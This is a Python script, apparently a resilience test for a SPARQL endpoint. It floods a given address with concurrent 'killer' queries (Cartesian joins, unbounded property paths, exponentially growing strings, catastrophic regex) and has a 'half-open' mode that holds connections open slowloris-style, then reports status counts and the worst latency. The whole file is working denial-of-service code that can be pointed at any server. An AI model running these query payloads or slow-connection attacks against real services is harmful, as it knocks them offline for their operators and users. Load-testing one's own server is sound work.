"""Clients that only do harm: `python attack.py ADDRESS CLIENTS SECONDS` asks killer queries, or `half-open` nothing at all.

It prints how the queries were answered, as JSON: how often each status came, and the longest time to one.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import sys
import time
from collections import Counter
from urllib.parse import quote, urlsplit

KILLERS = (
    # Nothing in common: as many solutions as there are triples, to the fifth power.
    "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n ?o }",
    # Everything is sorted before the first row.
    "SELECT * { ?a ?b ?c . ?d ?e ?f } ORDER BY STR(?c) DESC(STR(?f)) LIMIT 1",
    # A path of any length, from everywhere to everywhere.
    "SELECT (COUNT(*) AS ?n) { ?a (!<http://example.org/none>)* ?b }",
    "SELECT (COUNT(*) AS ?n) { ?a (!<http://example.org/none>|^!<http://example.org/none>)+ ?b }",
    # A text that doubles.
    'SELECT (STRLEN(?z) AS ?n) { BIND("xxxxxxxxxxxxxxxx" AS ?a0) '
    + " ".join(f"BIND(CONCAT(?a{n}, ?a{n}) AS ?a{n + 1})" for n in range(30))
    + " BIND(?a30 AS ?z) }",
    # Distinct rows of a product, all kept in memory.
    "SELECT DISTINCT ?a ?d ?g { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
    "CONSTRUCT { ?a ?e ?f } { ?a ?b ?c . ?d ?e ?f }",
    "SELECT (GROUP_CONCAT(CONCAT(STR(?a), STR(?f))) AS ?x) { ?a ?b ?c . ?d ?e ?f }",
    'SELECT * { ?a ?b ?c . ?d ?e ?f FILTER(REGEX(CONCAT(STR(?a), STR(?f)), "(a|b|ab)*c$")) }',
)


async def _ask(host: str, port: int, target: str) -> int:
    """The status of one request, of which the whole reply is read; 0 if it was cut off."""
    reader, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(f"GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        said = await reader.read()
    finally:
        writer.close()
    head, _, body = said.partition(b"\r\n\r\n")
    length = [line for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")]
    return int(head[9:12]) if length and int(length[0].split(b":")[1]) == len(body) else 0


async def _kill(address: str, clients: int, seconds: float) -> dict[str, object]:
    parts, over = urlsplit(address), time.monotonic() + seconds
    counted: Counter[int] = Counter()
    longest = 0.0
    numbers = itertools.count()

    async def client() -> None:
        nonlocal longest
        while time.monotonic() < over:
            number = next(numbers)
            query = f"{KILLERS[number % len(KILLERS)]} # {number}"
            began = time.monotonic()
            try:
                status = await _ask(parts.hostname or "", parts.port or 80, f"{parts.path}?query={quote(query)}")
            except OSError:
                status = 0
            counted[status] += 1
            longest = max(longest, time.monotonic() - began)
            if status == 503:
                await asyncio.sleep(0.1)  # a client that is worse would only fill its own machine

    await asyncio.gather(*(client() for _ in range(clients)))
    return {"statuses": dict(sorted(counted.items())), "longest_s": round(longest, 2)}


async def _stand(address: str, clients: int, seconds: float) -> dict[str, object]:
    """Begin requests and never end them; whoever is left comes again."""
    parts, over = urlsplit(address), time.monotonic() + seconds

    async def client() -> None:
        while time.monotonic() < over:
            try:
                reader, writer = await asyncio.open_connection(parts.hostname or "", parts.port or 80)
                writer.write(b"GET / HTTP/1.1\r\nHost: a\r\nX-A: ")
                await asyncio.wait_for(reader.read(), max(0.1, over - time.monotonic()))
                writer.close()
            except (OSError, TimeoutError):
                await asyncio.sleep(0.1)

    await asyncio.gather(*(client() for _ in range(clients)))
    return {"clients": clients}


def main() -> None:
    address, clients, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    act = _stand if sys.argv[4:] == ["half-open"] else _kill
    print(json.dumps(asyncio.run(act(address, clients, seconds))))


if __name__ == "__main__":
    main()
